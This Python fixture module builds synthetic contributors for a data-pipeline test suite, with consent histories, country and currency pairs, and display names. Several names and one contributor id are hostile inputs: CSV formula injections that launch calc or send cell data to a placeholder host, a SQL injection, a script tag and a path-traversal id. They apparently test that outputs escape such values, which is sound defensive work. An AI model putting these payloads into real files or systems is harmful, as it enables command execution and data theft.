"""Makes the contributors: their names, countries, currencies and consent histories."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, date, datetime, time

from pipelines.demo.roles.role import ConsentEvent, utc
from schemas.rights import Purpose

_AS_OF_LAST_MOMENT = utc("2026-06-30T23:59:59.999999")
_GIVEN_AT = utc("2021-03-01T09:00:00")


def _per_purpose(
    purposes: tuple[Purpose, ...], value: str, given_at: datetime
) -> tuple[ConsentEvent, ...]:
    return tuple(ConsentEvent(value, given_at, purpose) for purpose in purposes)


def _silence(notice_at: date, basis: str = "silence") -> ConsentEvent:
    """A yes by silence, recorded on the day of the notice, with a window of 30 days."""
    given_at = datetime.combine(notice_at, time(9), UTC)
    return ConsentEvent("allow", given_at, basis=basis, notice_at=notice_at, window_days=30)


_ALL_BUT_INFERENCE = tuple(p for p in Purpose if p is not Purpose.INFERENCE)
_ALL_BUT_GENERATIVE = tuple(p for p in Purpose if p is not Purpose.TRAIN_GEN)

# Each of these histories allows every purpose at the end of as_of.
CONSENTING_HISTORIES: dict[str, tuple[ConsentEvent, ...]] = {
    "plain": (ConsentEvent("allow", _GIVEN_AT),),
    "each_purpose": _per_purpose(tuple(Purpose), "allow", _GIVEN_AT),
    "given_again": (
        ConsentEvent("allow", _GIVEN_AT),
        ConsentEvent("deny", utc("2024-01-10T10:00:00")),
        ConsentEvent("allow", utc("2025-01-10T10:00:00")),
    ),
    "denied_next_day": (
        ConsentEvent("allow", _GIVEN_AT),
        ConsentEvent("deny", utc("2026-07-01T00:00:00")),
    ),
    "last_moment": (ConsentEvent("deny", _GIVEN_AT), ConsentEvent("allow", _AS_OF_LAST_MOMENT)),
    "wide_after_narrow": (
        ConsentEvent("deny", _GIVEN_AT, Purpose.TRAIN_GEN),
        ConsentEvent("allow", utc("2024-09-09T09:09:09")),
    ),
    "conditional_then_settled": (
        ConsentEvent("conditional", _GIVEN_AT),
        ConsentEvent("allow", utc("2023-02-02T00:00:00")),
    ),
}

# Consents that rest on something else than an explicit yes. Of silence, the window ends with the
# last day twelve hours west of UTC, so at noon UTC of the next one.
_IMPLIED_HISTORIES: dict[str, tuple[ConsentEvent, ...]] = {
    "basis_unstated": (ConsentEvent("allow", _GIVEN_AT, basis=None),),
    "basis_unknown": (ConsentEvent("allow", _GIVEN_AT, basis="by post"),),
    "by_terms": (ConsentEvent("allow", _GIVEN_AT, basis="terms"),),
    "terms_after_explicit": (
        ConsentEvent("allow", _GIVEN_AT),
        ConsentEvent("allow", utc("2025-01-10T10:00:00"), basis="terms"),
    ),
    "by_silence": (_silence(date(2024, 3, 1)),),
    "silence_just_over": (_silence(date(2026, 5, 30)),),
    "silence_not_over": (_silence(date(2026, 5, 31)),),
    "silence_without_notice": (ConsentEvent("allow", _GIVEN_AT, basis="silence", window_days=30),),
    "silence_misspelt": (_silence(date(2026, 6, 15), "silense"),),
    "silence_answered": (
        _silence(date(2024, 3, 1)),
        ConsentEvent("deny", utc("2024-03-10T08:00:00")),
    ),
    "silence_after_no": (
        ConsentEvent("deny", utc("2022-03-10T08:00:00")),
        _silence(date(2024, 3, 1)),
    ),
    "silence_withdrawn": (
        _silence(date(2024, 3, 1)),
        ConsentEvent("deny", utc("2025-03-10T08:00:00")),
    ),
}
# Histories whose consents name no signed agreement.
UNSIGNED_HISTORIES = frozenset({"unsigned", *_IMPLIED_HISTORIES})
# Roles refer to these by name; the reasons they cause are listed with the roles.
OTHER_HISTORIES: dict[str, tuple[ConsentEvent, ...]] = {
    # The consent names no agreement.
    "unsigned": (ConsentEvent("allow", _GIVEN_AT),),
    "missing": (),
    "denied": (ConsentEvent("deny", _GIVEN_AT),),
    "withdrawn": (
        ConsentEvent("allow", _GIVEN_AT),
        ConsentEvent("deny", utc("2024-03-01T12:00:00")),
    ),
    "conditional": (
        ConsentEvent("allow", _GIVEN_AT),
        ConsentEvent("conditional", utc("2025-03-01T12:00:00")),
    ),
    "after": (ConsentEvent("allow", utc("2026-07-01T00:00:00")),),
    "tie_conditional": (ConsentEvent("allow", _GIVEN_AT), ConsentEvent("conditional", _GIVEN_AT)),
    "tie_unknown": (ConsentEvent("allow", _GIVEN_AT), ConsentEvent("unknown", _GIVEN_AT)),
    "no_inference": _per_purpose(_ALL_BUT_INFERENCE, "allow", _GIVEN_AT),
    "inference_denied": (
        ConsentEvent("allow", _GIVEN_AT),
        ConsentEvent("deny", utc("2025-11-01T00:00:00"), Purpose.INFERENCE),
    ),
    "not_generative": (
        *_per_purpose(_ALL_BUT_GENERATIVE, "allow", _GIVEN_AT),
        ConsentEvent("deny", _GIVEN_AT, Purpose.TRAIN_GEN),
    ),
    "generative_withdrawn": (
        ConsentEvent("allow", _GIVEN_AT),
        ConsentEvent("deny", utc("2025-04-04T04:04:04"), Purpose.TRAIN_GEN),
    ),
    **_IMPLIED_HISTORIES,
}

# This contributor is in no table and has no consents.
UNLISTED_ID = "c-unlisted"

_COUNTRY_CURRENCIES = (
    ("US", "USD"),
    ("DE", "EUR"),
    ("JP", "JPY"),
    ("GB", "GBP"),
    ("NO", "NOK"),
    ("IN", "INR"),
    ("FR", "EUR"),
    ("KW", "KWD"),
    ("BR", "BRL"),
    ("KR", "KRW"),
    (None, "USD"),
    ("CL", "CLP"),
)
_DISPLAY_NAMES = (
    "Ada Okafor",
    '=HYPERLINK("http://example.invalid/?x="&A1,"open me")',
    "Søren Ångström",
    "+1 (555) 0100",
    "山田 花子",
    "@SUM(1+1)*cmd",
    "O'Brien; DROP TABLE contributors;--",
    "-2+3+cmd|' /C calc'!A0",
    "Line\nBreak",
    "‮desrever",
    '<script>alert("name")</script>',
    'José, "Pepe"\tDíaz',
    "N" * 400,
    "",
)
# A statement is a file named after its contributor, so this id tries to escape the folder.
HOSTILE_CONTRIBUTOR_ID = "../../=cmd|' /C calc'!A0"


@dataclass(frozen=True)
class Contributor:
    """One row of `contributors`, with the name of its consent history."""

    contributor_id: str
    display_name: str | None
    country: str | None
    currency: str
    payee_ref: str
    history: str


@dataclass(frozen=True)
class ContributorRoster:
    """The contributors of a library: all, those who consent to everything, and by history."""

    contributors: tuple[Contributor, ...]
    consenting: tuple[str, ...]
    by_history: dict[str, tuple[str, ...]]

    def pick_author(self, history: str, rotation: int) -> str:
        """Returns a contributor id with this history; `rotation` chooses among several."""
        if history == "unlisted":
            return UNLISTED_ID
        pool = self.consenting if history == "good" else self.by_history[history]
        return pool[rotation % len(pool)]


def make_roster(assets: int) -> ContributorRoster:
    """Makes the contributors for a library of that many assets."""
    consenting_names = tuple(CONSENTING_HISTORIES)
    contributors: list[Contributor] = []
    for number in range(max(21, assets // 15)):
        hostile = number == 3
        contributor_id = HOSTILE_CONTRIBUTOR_ID if hostile else f"c-{number:04d}"
        contributors.append(
            _make_contributor(
                contributor_id, number, consenting_names[number % len(consenting_names)]
            )
        )
    consenting = tuple(contributor.contributor_id for contributor in contributors)
    for number, history in enumerate(OTHER_HISTORIES, start=len(contributors)):
        contributors.append(_make_contributor(f"c-{history.replace('_', '-')}", number, history))
    by_history = {
        name: tuple(p.contributor_id for p in contributors if p.history == name)
        for name in (*CONSENTING_HISTORIES, *OTHER_HISTORIES)
    }
    return ContributorRoster(tuple(contributors), consenting, by_history)


def history_events(history: str) -> tuple[ConsentEvent, ...]:
    """Returns the consent events of a history, in arbitrary order."""
    return (
        CONSENTING_HISTORIES[history]
        if history in CONSENTING_HISTORIES
        else OTHER_HISTORIES[history]
    )


def _make_contributor(contributor_id: str, number: int, history: str) -> Contributor:
    country, currency = _COUNTRY_CURRENCIES[number % len(_COUNTRY_CURRENCIES)]
    name = _DISPLAY_NAMES[number] if number < len(_DISPLAY_NAMES) else f"Contributor {number}"
    return Contributor(
        contributor_id, name or None, country, currency, f"payee-{number:05d}", history
    )
